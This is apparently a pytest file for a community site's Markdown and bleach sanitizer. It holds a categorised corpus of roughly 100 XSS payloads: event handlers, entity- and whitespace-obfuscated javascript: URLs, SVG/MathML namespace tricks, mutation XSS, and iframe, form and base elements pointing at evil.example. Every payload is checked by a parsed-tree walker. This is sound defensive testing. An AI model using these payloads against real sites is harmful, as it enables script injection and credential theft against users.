"""XSS corpus for markup.py: every payload's OUTPUT is parsed with html5lib and walked, never string-matched.

Each payload goes through both walls: ``render_markdown`` (Markdown with raw HTML switched off, then
bleach) and ``sanitize`` alone (bleach, as if a future Markdown change let raw HTML through). The output
is also serialised and parsed a second time, so a mutation that only shows on re-parsing is caught.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from collections import Counter

import html5lib
import pytest

from community import markup

ALLOWED_ATTRIBUTES = {"a": {"href", "title", "class", "rel"}, "img": {"src", "alt", "title"}}
SAFE_SCHEMES = {"http", "https", "mailto"}
DANGEROUS_TAGS = {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button",
                  "textarea", "select", "noscript", "template", "meta", "base", "link", "frame", "frameset",
                  "title", "xmp", "noembed", "video", "audio", "source", "details"}  # fmt: skip

# (class, payload). Classes are counted below so that no class is thin.
PAYLOADS: list[tuple[str, str]] = [
    # Event handlers
    ("event", "<img src=x onerror=alert(1)>"),
    ("event", "<body onload=alert(1)>"),
    ("event", '<div onmouseover="alert(1)">hover</div>'),
    ("event", '<a href="https://ok.example" onclick="alert(1)">x</a>'),
    ("event", "<details open ontoggle=alert(1)>"),
    ("event", "<input autofocus onfocus=alert(1)>"),
    ("event", '<video><source onerror="alert(1)"></video>'),
    ("event", "<p ONCLICK=alert(1)>x</p>"),
    ("event", "<img/src=x/onerror=alert(1)>"),
    # javascript: hidden by entities, whitespace, control characters or case
    ("javascript", "[x](javascript:alert(1))"),
    ("javascript", "[x](JaVaScRiPt:alert(1))"),
    ("javascript", "[x](&#106;avascript:alert(1))"),
    ("javascript", "[x](&#x6A;&#x61;vascript:alert(1))"),
    ("javascript", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ("javascript", '<a href="java&#9;script:alert(1)">x</a>'),
    ("javascript", '<a href="java\tscript:alert(1)">x</a>'),
    ("javascript", '<a href="java\nscript:alert(1)">x</a>'),
    ("javascript", '<a href=" \x01javascript:alert(1)">x</a>'),
    ("javascript", "[x](java&Tab;script:alert(1))"),
    ("javascript", '<a href="javascript&colon;alert(1)">x</a>'),
    ("javascript", "[x](<javascript:alert(1)>)"),
    ("javascript", '[x]( javascript:alert(1) "title")'),
    ("javascript", "[x](\tjavascript:alert(1))"),
    # data: URLs
    ("data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"),
    ("data", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("data", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
    # vbscript:
    ("vbscript", "[x](vbscript:msgbox(1))"),
    ("vbscript", '<a href="VBScript:msgbox(1)">x</a>'),
    ("vbscript", "[x](vbs&#99;ript:msgbox(1))"),
    # svg / math namespace confusion
    ("namespace", "<svg><script>alert(1)</script></svg>"),
    ("namespace", "<svg onload=alert(1)>"),
    ("namespace", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("namespace", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("namespace", '<math href="javascript:alert(1)">x</math>'),
    ("namespace", "<svg><foreignObject><iframe src=javascript:alert(1)>"),
    ("namespace", '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>'),
    ("namespace", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    # Mutation XSS: raw-text and escapable-raw-text elements, templates, comments, nesting
    ("mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mutation", "<style><img src=x onerror=alert(1)></style>"),
    ("mutation", "<title><img src=x onerror=alert(1)></title>"),
    ("mutation", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("mutation", "<template><img src=x onerror=alert(1)></template>"),
    ("mutation", "<!--<img src=x onerror=alert(1)>-->"),
    ("mutation", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("mutation", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("mutation", '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>'),
    ("mutation", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("mutation", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("mutation", '<select><template><style><!--</style><a rel="--></style><img src onerror=alert(1)>">'),
    ("mutation", '<a href="https://ok.example"><table><a href="javascript:alert(1)">x</a></table></a>'),
    # Markdown links
    ("markdown-link", '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")'),
    ("markdown-link", "[x](https://ok.example' onclick='alert(1))"),
    ("markdown-link", '[x"><img src=x onerror=alert(1)>](https://ok.example)'),
    ("markdown-link", '[x](https://ok.example/"><script>alert(1)</script>)'),
    ("markdown-link", "[click **me**](javascript:alert(1) 'x')"),
    # Autolinks (Markdown and linkify)
    ("autolink", "<javascript:alert(1)>"),
    ("autolink", '<http://ok.example/" onmouseover="alert(1)>'),
    ("autolink", "<data:text/html,alert(1)>"),
    ("autolink", 'www.ok.example/"onmouseover="alert(1)'),
    ("autolink", "<mailto:x@example.org?body=<script>>"),
    ("autolink", "javascript:alert(1) and http://ok.example/<script>"),
    # Reference links
    ("reference", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("reference", '[x][r]\n\n[r]: <javascript:alert(1)> "t"'),
    ("reference", "![x][r]\n\n[r]: https://evil.example/track.png"),
    ("reference", '[x][r]\n\n[r]: https://ok.example "a\\" onclick=\\"alert(1)"'),
    ("reference", "[x][r]\n\n[r]: //evil.example/"),
    # Image titles and alts with quotes, image sources
    ("image", '![a" onerror="alert(1)](/uploads/abc.png)'),
    ("image", '![x](/uploads/abc.png "t\\" onerror=\\"alert(1)")'),
    ("image", "![x](/uploads/abc.png 't\\' onload=\\'alert(1)')"),
    ("image", "![x](https://evil.example/pixel.png)"),
    ("image", "![x](/uploads/../signout)"),
    ("image", "![x](/uploads/%2e%2e/signout)"),
    ("image", "![x](javascript:alert(1))"),
    ("image", "![x](/uploads/abc.png?x=1#y)"),
    # Raw HTML blocks
    ("raw-html", "<div>\n<script>alert(1)</script>\n</div>"),
    ("raw-html", '<script src="https://evil.example/x.js"></script>'),
    ("raw-html", "<p>ok</p>\n\n<script>alert(1)</script>"),
    ("raw-html", "<table><tr><td background=javascript:alert(1)>x</td></tr></table>"),
    # Attribute-breaking quotes
    ("quotes", "<a href='https://ok.example' title='x' onclick='alert(1)'>y</a>"),
    ("quotes", '<img src="/uploads/a.png"alt=""onerror="alert(1)">'),
    ("quotes", '<a title="\\"><script>alert(1)</script>">x</a>'),
    ("quotes", "<a href=`javascript:alert(1)`>x</a>"),
    ("quotes", '<a href="https://ok.example/""onclick="alert(1)">x</a>'),
    # CSS expressions and style
    ("css", '<div style="width: expression(alert(1))">x</div>'),
    ("css", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("css", "<style>@import 'https://evil.example/x.css';</style>"),
    ("css", '<span style="behavior:url(x.htc)">x</span>'),
    ("css", '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>'),
    # Elements that load, embed, submit or redirect
    ("element", '<iframe src="https://evil.example"></iframe>'),
    ("element", '<object data="javascript:alert(1)"></object>'),
    ("element", '<embed src="javascript:alert(1)">'),
    ("element", '<form action="https://evil.example"><input name=password><button>Go</button></form>'),
    ("element", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("element", '<base href="https://evil.example/">'),
    ("element", '<link rel=stylesheet href="https://evil.example/x.css">'),
    ("element", '<frameset><frame src="javascript:alert(1)">'),
    ("element", "<isindex action=javascript:alert(1) type=image>"),
    ("element", "<button formaction=javascript:alert(1)>x</button>"),
    # Protocol-relative URLs (leave the site without a scheme)
    ("protocol-relative", "[x](//evil.example)"),
    ("protocol-relative", "[x](/\\evil.example)"),
    ("protocol-relative", "[x](\\\\evil.example)"),
    ("protocol-relative", '<a href="//evil.example">x</a>'),
    ("protocol-relative", '<a href=" /\t/evil.example">x</a>'),
    ("protocol-relative", "![x](//evil.example/pixel.png)"),
]


def _fragment(html: str) -> ET.Element:
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def _browser_url(value: str) -> str:
    """How a browser's URL parser reads an attribute: outer spaces/controls dropped, tabs/newlines removed."""
    return re.sub(r"[\t\n\r]", "", value.strip("".join(chr(c) for c in range(33))))


def _href_problem(value: str) -> str | None:
    url = _browser_url(value)
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    if scheme:
        return None if scheme.group(1).lower() in SAFE_SCHEMES else f"scheme {scheme.group(1)!r}"
    if url.replace("\\", "/").startswith("//"):
        return "protocol-relative URL"
    return None


def _src_problem(value: str) -> str | None:
    url = _browser_url(value)
    if not url.startswith("/uploads/"):
        return "image from outside /uploads/"
    name = url[len("/uploads/") :]
    if not name or any(c in name for c in "/\\%?#") or name in (".", ".."):
        return "image path escapes /uploads/"
    return None


def problems(html: str) -> list[str]:
    """Everything unsafe in ``html``, found by walking the parsed tree."""
    found: list[str] = []
    for el in _fragment(html).iter():
        if el.tag == "DOCUMENT_FRAGMENT":
            continue
        if not isinstance(el.tag, str):
            found.append("comment or processing instruction survived")
            continue
        if el.tag not in markup.ALLOWED_TAGS:
            found.append(f"element <{el.tag}> outside the allow-list")
        allowed = ALLOWED_ATTRIBUTES.get(el.tag, set())
        for name, value in el.attrib.items():
            lowered = name.lower()
            if lowered.startswith("on"):
                found.append(f"event handler {name} on <{el.tag}>")
            elif lowered == "style":
                found.append(f"style attribute on <{el.tag}>")
            elif lowered not in allowed:
                found.append(f"attribute {name} on <{el.tag}>")
            elif lowered == "href" and (why := _href_problem(value)):
                found.append(f"href {value!r}: {why}")
            elif lowered == "src" and (why := _src_problem(value)):
                found.append(f"src {value!r}: {why}")
            elif lowered == "class" and value not in markup.LINK_CLASSES:
                found.append(f"class {value!r}")
        if el.tag == "a" and set((el.get("rel") or "").split()) != {"nofollow", "ugc", "noopener"}:
            found.append(f"<a> without rel='nofollow ugc noopener': {el.attrib}")
    return found


def assert_safe(html: str) -> None:
    """Safe as written, and still safe after a serialise/parse round trip (mutation XSS)."""
    assert problems(html) == [], html
    reparsed = html5lib.serialize(_fragment(html), tree="etree")
    assert problems(reparsed) == [], reparsed


def test_the_corpus_covers_every_class_with_enough_payloads():
    counts = Counter(kind for kind, _ in PAYLOADS)
    assert len(PAYLOADS) >= 40
    assert set(counts) == {"event", "javascript", "data", "vbscript", "namespace", "mutation", "markdown-link",
                           "autolink", "reference", "image", "raw-html", "quotes", "css", "element",
                           "protocol-relative"}  # fmt: skip
    assert min(counts.values()) >= 2, counts


def test_the_allow_list_has_no_dangerous_element():
    assert not (markup.ALLOWED_TAGS & DANGEROUS_TAGS)
    assert markup.ALLOWED_PROTOCOLS == SAFE_SCHEMES


@pytest.mark.parametrize(("kind", "payload"), PAYLOADS, ids=[f"{k}-{i}" for i, (k, _) in enumerate(PAYLOADS)])
def test_payload_is_harmless_after_markdown(kind: str, payload: str):
    assert_safe(markup.render_markdown(payload))


@pytest.mark.parametrize(("kind", "payload"), PAYLOADS, ids=[f"{k}-{i}" for i, (k, _) in enumerate(PAYLOADS)])
def test_payload_is_harmless_through_the_sanitizer_alone(kind: str, payload: str):
    assert_safe(markup.sanitize(payload))


@pytest.mark.parametrize(("kind", "payload"), PAYLOADS, ids=[f"{k}-{i}" for i, (k, _) in enumerate(PAYLOADS)])
def test_sanitizing_twice_changes_nothing(kind: str, payload: str):
    once = markup.render_markdown(payload)
    assert markup.sanitize(once) == once


def test_the_checker_itself_catches_what_it_should():
    # The walker must not be toothless: each of these is reported.
    assert problems('<a href="javascript:alert(1)" rel="nofollow ugc noopener">x</a>')
    assert problems('<a href="//evil.example" rel="nofollow ugc noopener">x</a>')
    assert problems('<a href="https://ok.example">no rel</a>')
    assert problems('<img src="https://evil.example/x.png">')
    assert problems('<img src="/uploads/%2e%2e/x">')
    assert problems("<p onclick=x>y</p>")
    assert problems('<p style="color:red">y</p>')
    assert problems("<svg></svg>")
    assert problems("<!-- c -->")
    assert problems('<a href="https://ok.example" rel="nofollow ugc noopener">fine</a>') == []


def test_text_of_a_neutralised_payload_stays_readable():
    # Raw HTML is shown as text, not silently dropped: members see what was written.
    root = _fragment(markup.render_markdown("<script>alert(1)</script>"))
    assert "".join(root.itertext()) == "<script>alert(1)</script>"
